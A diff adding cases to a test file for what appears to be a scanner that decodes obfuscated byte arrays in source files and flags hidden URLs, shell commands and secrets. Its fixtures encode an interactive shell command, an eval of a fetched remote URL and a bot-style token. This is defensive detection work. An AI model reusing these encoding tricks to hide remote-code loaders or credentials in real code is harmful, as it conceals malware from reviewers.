@@ -26,6 +26,16 @@ it.each([
   ['a.ts', `const u = name([${turned('https://table-cdn.net/a', 0x5b).join(',')}])`, 'https://table-cdn.net/a'],
   ['a.py', `k = bytes([${[...Buffer.from('/bin/sh -i')].join(', ')}])`, '/bin/sh -i'],
   ['a.html', `<script>const r = ['#687474', '#70733a', '#2f2f61', '#2e7465', '#73742f'];</script>`, 'https://a.test/'],
+  [
+    'a.py',
+    `k = (${[...Buffer.from("eval(webread('https://a.test/x'))")].map((byte) => byte + 11).join(', ')})`,
+    "eval(webread('https://a.",
+  ],
+  [
+    'a.ts',
+    `k = [${turned('7481920365:AAHq2ZtPw9xKvB3mNcRdLfGsJyUeOiT1a4b', 0x2a).join(',')}]`,
+    '7481920365:AAHq2ZtPw9xKv',
+  ],
   ['a.py', `k = (${[...Buffer.from('LT533550020009174406')].join(', ')})`, 'LT533550020009174406'],
 ])('is found in %s: %s', (path, text, name) => expect(found(path, text)).toEqual([`critical ${name}`]))
 
